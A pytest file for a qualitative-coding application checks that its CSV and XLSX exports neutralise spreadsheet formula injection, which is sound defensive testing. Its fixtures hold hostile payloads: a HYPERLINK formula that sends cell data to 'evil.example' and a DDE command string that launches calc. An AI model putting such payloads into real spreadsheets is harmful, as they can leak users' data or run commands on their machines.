"""Issue 22 item 9: spreadsheet formula injection. Every table qcoder writes — CSV (codings,
codebook, stats, matrices, agreement, analysis tables, the window's CSV and clipboard blocks)
and XLSX (codings, codebook, analysis workbook with its Notes sheet, agreement and appendix
workbooks) — applies one rule: a CSV text cell starting with = + - @ TAB CR gets a leading
quote, an XLSX text is a string cell, never a formula. Our own CSV imports undo the quote."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

from qcoder.app.codebook_io import export_codebook, import_codebook
from qcoder.app.codings_io import export_codings, import_codings
from qcoder.app.safety import create_project, open_project
from qcoder.cli import main
from qcoder.core.cells import FORMULA_START, escape_cell, formula_like, unescape_cell
from qcoder.core.model import AttributeScope
from tests.helpers import imported

ROOT = Path(__file__).resolve().parents[2]
HOSTILE_CODE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_CHILD = "+cmd|' /C calc'!A0"
HOSTILE_CODER = "@SUM(1+1)*cmd"
HOSTILE_MEMO = "-5 years"
HOSTILE_SITE = "=2+3"
HOSTILE_PROJECT = "=1+2"


@pytest.fixture(scope="module")
def project_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("formula") / "p.qcoder"
    with create_project(path, HOSTILE_PROJECT) as p:
        doc = p.add_document(imported())
        p.set_attributes(AttributeScope.DOCUMENT, {doc.id: {"site": HOSTILE_SITE, "stakeholder_group": "@group"}})
        code = p.create_code(HOSTILE_CODE, definition="=DEF()")  # its "//" is no path: made as in the codebook
        child = p.create_code(HOSTILE_CHILD, parent_id=code.id)
        maya, jordan = p.ensure_coder(HOSTILE_CODER), p.ensure_coder("Jordan")
        p.add_coding(doc.id, code.id, maya.id, 0, 12, HOSTILE_MEMO)
        p.add_coding(doc.id, code.id, jordan.id, 0, 14, "\rcarriage-return")
        p.add_coding(doc.id, child.id, maya.id, 20, 40, "'=already quoted")
        p.add_coding(doc.id, child.id, jordan.id, 22, 40, "-5")
    return path


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_csv_safe(text: str) -> None:
    cells = _csv_cells(text)
    assert cells, "nothing written"
    bad = [c for c in cells if formula_like(c)]
    assert not bad, f"formula-looking CSV cells written raw: {bad}"


def assert_xlsx_safe(path: Path) -> None:
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), f"a formula in {name}"
    from openpyxl import load_workbook

    wb = load_workbook(path)
    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)
    texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert texts & {HOSTILE_CODE, HOSTILE_CODER, HOSTILE_PROJECT, HOSTILE_MEMO, HOSTILE_SITE, "=DEF()"}


def test_the_rule() -> None:
    assert FORMULA_START == ("=", "+", "-", "@", "\t", "\r")
    for text in ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "-5 years", "'=x", "''+x"]:
        assert escape_cell(text) == "'" + text
        assert unescape_cell(escape_cell(text)) == text  # type: ignore[arg-type]
    for value in ["plain", "'quoted", "-5", "+0.25", "-1e3", "", 5, -5, -2.5, None]:
        assert escape_cell(value) == value
        if isinstance(value, str):
            assert unescape_cell(value) == value


def test_codings_csv_and_xlsx_round_trip(project_path: Path, tmp_path: Path) -> None:
    with open_project(project_path, backup=False) as p:
        before = sorted((c.start, c.end, c.memo) for c in p.codings())
        export_codings(p, tmp_path / "c.csv")
        export_codings(p, tmp_path / "c.xlsx")
    assert_csv_safe((tmp_path / "c.csv").read_text(encoding="utf-8-sig"))
    assert_xlsx_safe(tmp_path / "c.xlsx")
    for name in ("c.csv", "c.xlsx"):
        target = tmp_path / f"new-{name}.qcoder"
        with create_project(target, "new") as p:
            p.add_document(imported())
            import_codings(p, tmp_path / name)
            got = sorted((c.start, c.end, c.memo) for c in p.codings())
            # the sheet reader strips cell values of an XLSX file (the CSV reader keeps them)
            assert got == (before if name.endswith(".csv") else [(s, e, m.strip()) for s, e, m in before])
            assert set(p.code_paths().values()) == {HOSTILE_CODE, f"{HOSTILE_CODE} > {HOSTILE_CHILD}"}
            assert {c.name for c in p.coders()} >= {HOSTILE_CODER, "Jordan"}


def test_codebook_csv_and_xlsx_round_trip(project_path: Path, tmp_path: Path) -> None:
    with open_project(project_path, backup=False) as p:
        export_codebook(p, tmp_path / "b.csv")
        export_codebook(p, tmp_path / "b.xlsx")
    assert_csv_safe((tmp_path / "b.csv").read_text(encoding="utf-8-sig"))
    assert_xlsx_safe(tmp_path / "b.xlsx")
    for name in ("b.csv", "b.xlsx"):
        with create_project(tmp_path / f"{name}.qcoder", "new") as p:
            import_codebook(p, tmp_path / name)
            paths = p.code_paths()
            assert set(paths.values()) == {HOSTILE_CODE, f"{HOSTILE_CODE} > {HOSTILE_CHILD}"}
            code = p.code_by_path(HOSTILE_CODE)
            assert code is not None and code.definition == "=DEF()"


def _cli(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    assert main(list(args)) == 0, capsys.readouterr().err
    return capsys.readouterr().out


def test_cli_csv_writers(project_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    p = str(project_path)
    assert_csv_safe(_cli(capsys, "stats", p, "--by", "site", "--format", "csv").replace("# ", ""))
    _cli(capsys, "stats", p, "--by", "site", "--format", "csv", "-o", str(tmp_path / "s.csv"))
    written = sorted(tmp_path.glob("s*.csv"))
    assert written
    for f in written:
        assert_csv_safe(f.read_text(encoding="utf-8-sig"))
    _cli(capsys, "stats", p, "--by", "site", "--matrix", "excerpts", "-o", str(tmp_path / "m.csv"))
    assert_csv_safe((tmp_path / "m.csv").read_text(encoding="utf-8-sig"))
    coders = f"{HOSTILE_CODER},Jordan"
    assert_csv_safe(_cli(capsys, "agreement", p, "--coders", coders, "--format", "csv"))
    _cli(capsys, "agreement", p, "--coders", coders, "--format", "csv", "-o", str(tmp_path / "a.csv"))
    assert_csv_safe((tmp_path / "a.csv").read_text(encoding="utf-8-sig"))
    assert_csv_safe(_cli(capsys, "saturation", p, "--format", "csv", "--by-coder"))
    _cli(capsys, "saturation", p, "--format", "csv", "--by-coder", "-o", str(tmp_path / "sat.csv"))
    assert f"'{HOSTILE_CODER}: new" in (tmp_path / "sat.csv").read_text(encoding="utf-8-sig")
    assert_csv_safe((tmp_path / "sat.csv").read_text(encoding="utf-8-sig"))
    _cli(capsys, "codings", "export", p, str(tmp_path / "cli-codings.csv"))
    assert_csv_safe((tmp_path / "cli-codings.csv").read_text(encoding="utf-8-sig"))
    _cli(capsys, "export", p, "--cases", "documents", "-o", str(tmp_path / "cases.csv"))  # issue 17
    cases = (tmp_path / "cases.csv").read_text(encoding="utf-8-sig")
    assert_csv_safe(cases)
    assert f"'{HOSTILE_SITE}" in cases


def test_query_writers(project_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from qcoder.analysis.query import QueryEngine
    from qcoder.analysis.query_parse import quote_path
    from qcoder.app.queries import QuerySpec, export_results, query_index, run_spec

    query = quote_path(HOSTILE_CODE)
    p = str(project_path)
    assert_csv_safe(_cli(capsys, "query", p, query, "--format", "csv"))
    _cli(capsys, "query", p, query, "--format", "csv", "-o", str(tmp_path / "q.csv"))
    assert_csv_safe((tmp_path / "q.csv").read_text(encoding="utf-8-sig"))
    with open_project(project_path, backup=False) as project:
        index = query_index(project)
        result = run_spec(QueryEngine(index), QuerySpec(query, where=(f"site={HOSTILE_SITE}",)))
    assert result.count > 0
    export_results(index, result, tmp_path / "q.xlsx")
    assert_xlsx_safe(tmp_path / "q.xlsx")
    assert_csv_safe(export_results(index, result, tmp_path / "w.csv").read_text(encoding="utf-8-sig"))


def test_xlsx_writers(project_path: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    p = str(project_path)
    _cli(capsys, "export", p, "-o", str(tmp_path / "whole.xlsx"), "--by", "site")
    _cli(capsys, "stats", p, "--by", "site", "--format", "xlsx", "-o", str(tmp_path / "stats.xlsx"))
    _cli(capsys, "export", p, "--cases", "respondents", "-o", str(tmp_path / "cases.xlsx"))  # issue 17
    coders = f"{HOSTILE_CODER},Jordan"
    _cli(capsys, "agreement", p, "--coders", coders, "--format", "xlsx", "-o", str(tmp_path / "ap.xlsx"))
    _cli(capsys, "codebook", "export", p, str(tmp_path / "book.xlsx"))
    _cli(capsys, "summary", p, "--case", f"site={HOSTILE_SITE}", "--theme", HOSTILE_CODE, "--set", HOSTILE_MEMO)
    _cli(capsys, "matrix", p, "--cases", "site", "--format", "xlsx", "-o", str(tmp_path / "framework.xlsx"))
    _cli(capsys, "matrix", p, "--synthesis", "site", "--format", "xlsx", "-o", str(tmp_path / "synthesis.xlsx"))
    for name in ("whole.xlsx", "stats.xlsx", "ap.xlsx", "book.xlsx", "framework.xlsx", "synthesis.xlsx", "cases.xlsx"):
        assert_xlsx_safe(tmp_path / name)
    from openpyxl import load_workbook

    notes = load_workbook(tmp_path / "whole.xlsx")["Notes"]
    assert notes["B1"].value == HOSTILE_PROJECT and notes["B1"].data_type == "s"
    matrix = load_workbook(tmp_path / "whole.xlsx")["Themes x site"]  # issue 16: the theme x group matrix
    heads = {c.value: c.data_type for c in matrix[1]}
    assert heads[f"{HOSTILE_SITE}: respondents (N=1)"] == "s"
    assert {matrix["A2"].value: matrix["A2"].data_type} == {HOSTILE_CODE: "s"}


def test_analysis_csv_tables_and_codebook_workbook(project_path: Path, tmp_path: Path) -> None:
    from qcoder.exporters.codebook_docs import export_codebook_xlsx
    from qcoder.exporters.xlsx_export import export_csv_tables

    with open_project(project_path, backup=False) as p:
        snap = p.snapshot()
    for f in export_csv_tables(snap, tmp_path / "tables", by=("site",)):
        if f.stat().st_size > 0:
            assert_csv_safe(f.read_text(encoding="utf-8-sig"))
    assert_xlsx_safe(export_codebook_xlsx(snap, tmp_path / "cb.xlsx"))


def test_clipboard_block_round_trip() -> None:
    from qcoder.gui.attributes_model import format_block, parse_block

    rows = [[HOSTILE_SITE, "-5 years", "plain", "-5"], ["@x", "'=y", "", "+1"]]
    text = format_block(rows)
    assert not [c for r in csv.reader(io.StringIO(text), dialect="excel-tab") for c in r if formula_like(c)]
    assert parse_block(text) == rows


def test_analysis_window_copy_and_csv(project_path: Path, tmp_path: Path, qapp: object) -> None:
    """The analysis window's table: its clipboard text (pasted into a spreadsheet) and its CSV."""
    from qcoder.analysis.matrix import AnalysisData, CountKind, Options, compute_matrix, matrix_grid
    from qcoder.gui.analysis.matrix_model import FrequencyMatrixModel

    with open_project(project_path, backup=False) as p:
        matrix = compute_matrix(AnalysisData(p.snapshot()), Options(attribute="site"))
    model = FrequencyMatrixModel()
    model.set_matrix(matrix)
    cells = [c for line in model.tsv().splitlines() for c in line.split("\t")]
    assert "'" + HOSTILE_CODE in cells and "'" + HOSTILE_SITE in cells
    assert not [c for c in cells if formula_like(c)]
    grid = matrix_grid(matrix, CountKind.EXCERPTS)
    assert model.grid() == grid
    out = tmp_path / "window.csv"
    with out.open("w", newline="", encoding="utf-8-sig") as fh:  # what AnalysisView.export_csv writes
        from qcoder.core.cells import csv_writer

        csv_writer(fh).writerows(model.grid())
    assert_csv_safe(out.read_text(encoding="utf-8-sig"))


# every place qcoder writes a table, and the test above that checks it
WRITERS = {
    "qcoder/core/cells.py": "the one CSV writer (csv_writer)",
    "qcoder/app/tables.py": "write_table / write_tables_csv (also the case table, export --cases): test_codings_*, "
    "test_codebook_*, test_cli_csv_writers, test_xlsx_writers",
    "qcoder/cli/analysis.py": "stats --matrix -o, agreement --format csv: test_cli_csv_writers",
    "qcoder/app/saturation.py": "saturation --format csv (CLI and window): test_cli_csv_writers",
    "qcoder/exporters/xlsx_export.py": "export_xlsx, export_csv_tables, Notes: test_xlsx_writers, test_analysis_*",
    "qcoder/exporters/xlsx_rows.py": "codings/codebook/agreement/appendix workbooks: test_xlsx_writers",
    "qcoder/exporters/xlsx_cells.py": "the one XLSX text cell (text_cell)",
    "qcoder/exporters/framework_xlsx.py": "qcoder matrix --format xlsx: test_xlsx_writers",
    "qcoder/exporters/synthesis_xlsx.py": "qcoder matrix --synthesis --format xlsx: test_xlsx_writers",
    "qcoder/exporters/query_export.py": "qcoder query --format csv, the Query window's CSV/XLSX: test_query_writers",
    "qcoder/exporters/codebook_docs.py": "export_codebook_xlsx: test_analysis_csv_tables_and_codebook_workbook",
    "qcoder/gui/analysis/view.py": "the analysis window's CSV export: test_analysis_window_copy_and_csv",
    "qcoder/gui/attributes_model.py": "the attribute grid's copy block: test_clipboard_block_round_trip",
}
_WRITES = re.compile(r"csv\.writer\(|csv\.DictWriter\(|csv_writer\(|Workbook\(|WriteOnlyCell\(")


def test_every_tabular_writer_is_known_and_escaped() -> None:
    found: dict[str, str] = {}
    for f in sorted((ROOT / "qcoder").rglob("*.py")):
        text = f.read_text(encoding="utf-8")
        rel = f.relative_to(ROOT).as_posix()
        if _WRITES.search(text):
            found[rel] = text
    assert set(found) == set(WRITERS), "a new table writer: route it through csv_writer/text_cell and list it here"
    raw_csv = [r for r, t in found.items() if re.search(r"csv\.(writer|DictWriter)\(", t) and "core/cells" not in r]
    assert not raw_csv, f"CSV written without qcoder.core.cells.csv_writer: {raw_csv}"
    raw_cells = [
        r
        for r, t in found.items()
        if re.search(r"WriteOnlyCell\(ws, value=(?!\"\")", t) and r != "qcoder/exporters/xlsx_cells.py"
    ]
    assert not raw_cells, f"XLSX text cells made without text_cell: {raw_cells}"
